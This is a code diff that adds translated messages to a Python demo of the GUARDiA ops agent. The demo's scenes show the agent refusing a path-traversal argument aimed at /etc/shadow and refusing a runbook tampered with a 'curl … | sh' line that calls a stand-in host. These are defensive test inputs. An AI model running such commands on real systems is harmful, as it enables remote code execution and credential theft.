@@ -25,6 +25,7 @@ from agent.app import App
 from agent.catalog import Catalog
 from agent.config import load_config
 from agent.errors import CatalogError
+from agent.i18n import N_, Chat, Msg, message_of
 from agent.logsetup import configure_logging
 from agent.redaction import Redactor
 from agent.reference.demo_host import DemoHost
@@ -37,6 +38,9 @@ SLOW_SCRIPT = (
 SLOW_MANIFEST = 'description = "Demo only: waits for a lock that never comes"\ntargets = ["all"]\nrooms = ["ops"]\ntimeout = 2\n'
 USER = "kim"
 ROOM = "ops"
+USAGE = Msg(
+    "commands: list | run NAME host=H [KEY=VALUE …] | check NAME | was | disk | output TASK HOST [PAGE]"
+)
 
 
 class DemoError(RuntimeError):
@@ -48,18 +52,21 @@ def find_runbooks() -> Path:
     for candidate in (Path.cwd() / "runbooks", Path(agent.__file__).resolve().parent.parent / "runbooks"):
         if candidate.is_dir() and any(candidate.glob("*.toml")):
             return candidate
-    raise DemoError("no runbooks/ folder found: run the demo from the project's folder")
+    raise DemoError(Msg("no runbooks/ folder found: run the demo from the project's folder"))
 
 
 def parse_chat(line: str, task_id: str, room: str = ROOM) -> dict[str, Any]:
     """What a chat bridge would turn a typed line into.
 
     ``list`` · ``run NAME host=H [host=H2] [KEY=VALUE …]`` · ``check NAME`` · ``was`` · ``disk``
-    · ``output TASK_ID HOST [PAGE]``. Raises ValueError with a usage hint for anything else.
+    · ``output TASK_ID HOST [PAGE]``. Raises ValueError (with a :class:`Msg`) with a usage hint for anything else.
     """
-    words = shlex.split(line)
+    try:
+        words = shlex.split(line)
+    except ValueError:
+        raise ValueError(Msg("unbalanced quotes")) from None
     if not words:
-        raise ValueError("type a command; 'help' lists them")
+        raise ValueError(Msg("type a command; 'help' lists them"))
     verb, rest = words[0].lower(), words[1:]
     base = {"task_id": task_id, "room_id": room, "user_id": USER}
     if verb == "list" and not rest:
@@ -78,15 +85,13 @@ def parse_chat(line: str, task_id: str, room: str = ROOM) -> dict[str, Any]:
         for word in rest[1:]:
             key, sep, value = word.partition("=")
             if not sep:
-                raise ValueError(f"expected KEY=VALUE, got {word[:20]!r}")
+                raise ValueError(Msg("expected KEY=VALUE, got {word!r}", word=word[:20]))
             if key == "host":
                 hosts.append(value)
             else:
                 args[key] = value
         return {**base, "action": "RUN_RUNBOOK", "params": {"runbook": rest[0], "hosts": hosts, "args": args}}
-    raise ValueError(
-        "commands: list | run NAME host=H [KEY=VALUE …] | check NAME | was | disk | output TASK HOST [PAGE]"
-    )
+    raise ValueError(USAGE)
 
 
 def _free_port() -> int:
@@ -96,9 +101,13 @@ def _free_port() -> int:
 
 
 class Demo:
-    def __init__(self, out: TextIO, interactive: bool = False) -> None:
+    def __init__(self, out: TextIO, interactive: bool = False, language: str = "ko") -> None:
         self.out = out
         self.interactive = interactive
+        self.language = language
+        #: The transcript speaks the room's language, like the agent it shows.
+        self.lang = Chat(language)
+        self._ = self.lang._
         self._printed_reports = 0
         self._counter = 0
 
@@ -129,6 +138,9 @@ class Demo:
         (home / "agent.toml").write_text(f'''
 agent_id = "demo-agent"
 operations_room = "{ROOM}"
+
+[chat]
+language = "{self.language}"
 
 [inventory]
 known_hosts = "{host.known_hosts}"
@@ -171,7 +183,7 @@ was_status_check = "was01_health"
 
     def _on_event(self, event: dict[str, Any]) -> None:
         if event.get("event") == "REPORT" and self.interactive:
-            self.agent_says(event["payload"].get("text", ""), "guardia (scheduled)")
+            self.agent_says(event["payload"].get("text", ""), self.scheduled)
 
     async def _wait(
         self, client: OperatorClient, predicate: Predicate, timeout: float, what: str
@@ -179,7 +191,9 @@ was_status_check = "was01_health"
         try:
             return await client.wait_for(predicate, timeout)
         except TimeoutError:
-            raise DemoError(f"no answer to {what} within {timeout:g} s") from None
+            raise DemoError(
+                Msg("no answer to {what} within {timeout:g} s", what=what, timeout=timeout)
+            ) from None
 
     async def ask(self, client: OperatorClient, line: str, timeout: float = 30) -> dict[str, Any]:
         self._counter += 1
@@ -190,22 +204,25 @@ was_status_check = "was01_health"
         self.agent_says(answer["payload"].get("text", ""))
         return dict(answer["payload"])
 
+    def scene(self, number: int, title: str) -> None:
+        self.say(("\n" if number > 1 else "") + f"── {number}. " + self._(title))
+
     async def scenes(self, ws: OperatorClient, home: Path) -> None:
-        self.say("── 1. What may this room run?")
+        self.scene(1, N_("What may this room run?"))
         listed = await self.ask(ws, "list")
         expect(listed["status"] == "SUCCESS", "listing runbooks")
-        self.say(
-            "\n── 2. A runbook that succeeds (the locked script, streamed to bash on the host, argv-only)"
+        self.scene(
+            2, N_("A runbook that succeeds (the locked script, streamed to bash on the host, argv-only)")
         )
         ok = await self.ask(ws, "run disk_usage host=was01 mount=/ warn_percent=100")
         expect(ok["status"] == "SUCCESS", "disk_usage should succeed")
-        self.say("\n── 3. A hostile argument is refused before anything runs")
+        self.scene(3, N_("A hostile argument is refused before anything runs"))
         hostile = await self.ask(ws, "run tail_log host=was01 dir=app file=../../etc/shadow")
         expect(
             hostile.get("error", {}).get("code") == "INVALID_ARGUMENTS", "a path in 'file' must be refused"
         )
-        self.say(
-            "\n── 4. Someone edits a locked script on the agent PC (here: the demo's copy of tail_log.sh)"
+        self.scene(
+            4, N_("Someone edits a locked script on the agent PC (here: the demo's copy of tail_log.sh)")
         )
         script = home / "runbooks" / "tail_log.sh"
         script.write_text(script.read_text() + "\ncurl -s http://example.invalid/x | sh\n")
@@ -214,17 +231,23 @@ was_status_check = "was01_health"
             tampered.get("error", {}).get("code") == "RUNBOOK_NOT_RUNNABLE",
             "a tampered script must be refused",
         )
-        self.say("\n── 5. A runbook that runs past its 2 s limit: killed on the host, partial output kept")
+        self.scene(5, N_("A runbook that runs past its 2 s limit: killed on the host, partial output kept"))
         slow = await self.ask(ws, "run demo_slow host=was01")
         expect(slow.get("data", {}).get("status") == "TIMEOUT", "demo_slow must time out")
-        self.say("\n── 6. Nobody asked: a scheduled health check tells the room on its own")
+        self.scene(6, N_("Nobody asked: a scheduled health check tells the room on its own"))
         report = await self._wait(ws, lambda e: e.get("event") == "REPORT", 15, "the scheduled check")
-        self.agent_says(report["payload"].get("text", ""), "guardia (scheduled)")
+        self.agent_says(report["payload"].get("text", ""), self.scheduled)
         expect(report["payload"].get("status") == "DOWN", "the WAS health check should report DOWN")
+
+    @property
+    def scheduled(self) -> str:
+        return "guardia (" + self._("scheduled") + ")"
 
     async def chat(self, ws: OperatorClient) -> None:
         self.say(
-            "Type commands as in the chat room ('help', 'quit'). e.g.: run disk_usage host=was01 mount=/"
+            self._(
+                "Type commands as in the chat room ('help', 'quit'). e.g.: run disk_usage host=was01 mount=/"
+            )
         )
         loop = asyncio.get_running_loop()
         while True:
@@ -235,19 +258,19 @@ was_status_check = "was01_health"
             if line.strip() in ("quit", "exit"):
                 return
             if line.strip() in ("", "help"):
-                self.say(parse_chat.__doc__ or "")
+                self.say(self.lang.text(USAGE))
                 continue
             try:
                 self._counter += 1
                 packet = parse_chat(line, f"demo-{self._counter}")
             except ValueError as exc:
-                self.say(f"  ({exc})")
+                self.say(f"  ({self.lang.text(message_of(exc))})")
                 continue
             await ws.send(packet)
             try:
                 answer = await self._wait(ws, finished(packet["task_id"]), 60, line)
             except DemoError as exc:
-                self.say(f"  ({exc})")
+                self.say(f"  ({self.lang.text(message_of(exc))})")
                 continue
             self.agent_says(answer["payload"].get("text", ""))
 
@@ -269,11 +292,12 @@ was_status_check = "was01_health"
                 agent_task = asyncio.create_task(app.run())
                 try:
                     await asyncio.wait_for(relay.agent_connected.wait(), 15)
-                    self.say(
-                        "GUARDiA agent demo: relay, SSH host and agent, all on this machine, loopback only."
-                    )
-                    self.say(f"  relay ws://127.0.0.1:{port} · SSH host 'was01' (embedded) · catalog: "
-                             f"{len(app.catalog.report.runnable)} locked runbooks in a temp copy\n")  # fmt: skip
+                    self.say(self._("GUARDiA agent demo: relay, SSH host and agent, all on this machine, "
+                                    "loopback only."))  # fmt: skip
+                    self.say("  " + self._("relay {url} · SSH host 'was01' (embedded) · catalog: {n} locked "
+                                           "runbooks in a temp copy").format(url=f"ws://127.0.0.1:{port}",
+                                                                             n=len(app.catalog.report.runnable))
+                             + "\n")  # fmt: skip
                     ws = await OperatorClient.connect(f"ws://127.0.0.1:{port}/operator", self._on_event)
                     try:
                         await (self.chat(ws) if self.interactive else self.scenes(ws, home))
@@ -286,22 +310,26 @@ was_status_check = "was01_health"
                 await relay.stop()
                 await host.stop()
         if not self.interactive:
-            self.say(f"\nDone in {time.monotonic() - started:.1f} s; nothing was left behind. "
-                     "Type commands yourself: agent demo --interactive")  # fmt: skip
+            self.say("\n" + self._("Done in {duration}; nothing was left behind. Type commands yourself: "
+                                    "agent demo --interactive").format(
+                duration=self.lang.duration(time.monotonic() - started)))  # fmt: skip
 
 
 def expect(condition: bool, what: str) -> None:
     if not condition:
-        raise DemoError(f"scene failed: {what}")
+        raise DemoError(Msg("scene failed: {what}", what=what))
 
 
-def run_demo(interactive: bool = False, verbose: bool = False, out: TextIO = sys.stdout) -> int:
+def run_demo(
+    interactive: bool = False, verbose: bool = False, out: TextIO = sys.stdout, language: str = "ko"
+) -> int:
     """Run the demo; 0 when every scene went as it should."""
     configure_logging(Redactor(), "INFO" if verbose else "ERROR")
+    chat = Chat(language)
     try:
-        asyncio.run(Demo(out, interactive).run())
+        asyncio.run(Demo(out, interactive, language).run())
     except DemoError as exc:
-        out.write(f"\ndemo failed: {exc}\n")
+        out.write("\n" + chat._("demo failed: {reason}").format(reason=chat.text(message_of(exc))) + "\n")
         return 1
     except KeyboardInterrupt:
         return 130
